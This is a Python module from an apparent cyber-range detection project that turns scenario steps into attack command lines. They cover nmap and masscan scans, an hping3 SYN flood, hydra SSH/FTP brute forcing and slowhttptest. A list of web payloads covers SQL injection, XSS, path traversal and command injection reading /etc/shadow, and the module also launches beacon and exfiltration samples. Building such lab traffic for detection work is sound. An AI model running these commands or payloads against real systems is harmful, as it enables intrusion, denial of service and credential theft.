"""Attack steps as real tool command lines, and the ground truth each one leaves.

Every scanning, flooding and guessing tool runs from its own attacker host; the sandbox's
behaviour samples run on infected hosts and call the C2 server through the campus resolver.

>>> from swarmguard.range.scenario import AttackStep
>>> step = AttackStep(at_s=0, tool="hping3", target="srv1", duration_s=3)
>>> cmd = attack_command(step, dst_ip="10.202.0.10", src_ip="10.209.0.11",
...                      gateway="10.209.0.1", workdir=Path("/tmp/x"))
>>> cmd.exe, cmd.dst_port, cmd.args[:3]
('hping3', 80, ['timeout', '-s', 'KILL'])
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from swarmguard.range.scenario import AttackStep
from swarmguard.range.services import SSH_USER, WORDLIST
from swarmguard.sandbox import samples as _samples

__all__ = ["SAMPLES", "WEB_ATTACKS", "AttackCommand", "attack_command"]

SAMPLES = {
    "beacon": "http_beacon.py",
    "dns_tunnel": "dns_tunnel.py",
    "http_exfil": "http_exfil.py",
}
"""Sample name in a scenario -> script in ``swarmguard/sandbox/samples/``."""
WEB_ATTACKS = [
    "/index.html?id=1%27%20OR%20%271%27=%271",
    "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/../../../../etc/passwd",
    "/index.php?page=../../../../etc/passwd",
    "/cgi-bin/test.cgi?cmd=;cat%20/etc/shadow",
    "/login?user=admin%27--&pass=x",
    "/news/1.html?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
]
"""Request paths ``curl-web`` sends (SQL injection, XSS, path traversal, command injection)."""


@dataclass(frozen=True)
class AttackCommand:
    """A step ready to launch: the command line (to run in the source's namespace)."""

    args: list[str]
    exe: str
    dst_ip: str
    dst_port: int | None


def _timeout(step: AttackStep, *args: str) -> list[str]:
    return ["timeout", "-s", "KILL", f"{step.duration_s:g}", *args]


def attack_command(
    step: AttackStep,
    *,
    dst_ip: str,
    src_ip: str,
    gateway: str,
    workdir: Path,
    python: str = "python3",
) -> AttackCommand:
    """The command line of ``step`` against ``dst_ip`` (for samples: the C2 or resolver)."""
    tool = step.tool
    if tool == "nmap":
        args = _timeout(step, "nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1",
                        "-p", "1-1000", dst_ip)  # fmt: skip
        return AttackCommand(args, "nmap", dst_ip, None)
    if tool == "masscan":
        args = _timeout(step, "masscan", dst_ip, "-p1-2000", "--rate", "400", "--wait", "1",
                        "--adapter", "eth0", "--adapter-ip", src_ip,
                        "--router-ip", gateway)  # fmt: skip
        return AttackCommand(args, "masscan", dst_ip, None)
    if tool == "hping3":
        args = _timeout(step, "hping3", "-S", "-p", "80", "-i", "u1000", "-q", dst_ip)
        return AttackCommand(args, "hping3", dst_ip, 80)
    if tool in ("hydra-ssh", "hydra-ftp"):
        words = workdir / "wordlist.txt"
        words.write_text("\n".join(WORDLIST) + "\n")
        service = tool.removeprefix("hydra-")
        args = _timeout(step, "hydra", "-l", SSH_USER, "-P", str(words), "-t", "4", "-w", "5",
                        "-I", "-f", f"{service}://{dst_ip}")  # fmt: skip
        return AttackCommand(args, "hydra", dst_ip, 22 if service == "ssh" else 21)
    if tool == "slowhttptest":
        args = _timeout(step, "slowhttptest", "-c", "150", "-H", "-i", "3", "-r", "60",
                        "-l", f"{int(step.duration_s)}", "-u", f"http://{dst_ip}/",
                        "-p", "2")  # fmt: skip
        return AttackCommand(args, "slowhttptest", dst_ip, 80)
    if tool == "curl-web":
        loop = " ; ".join(
            f"curl -s -o /dev/null --path-as-is --max-time 2 'http://{dst_ip}{p}'"
            for p in WEB_ATTACKS
        )
        return AttackCommand(_timeout(step, "bash", "-c", loop), "curl", dst_ip, 80)
    sample = tool.removeprefix("sample:")
    script = Path(_samples.__file__).parent / SAMPLES[sample]
    port = 53 if sample == "dns_tunnel" else 80
    return AttackCommand(_timeout(step, python, str(script)), sample, dst_ip, port)
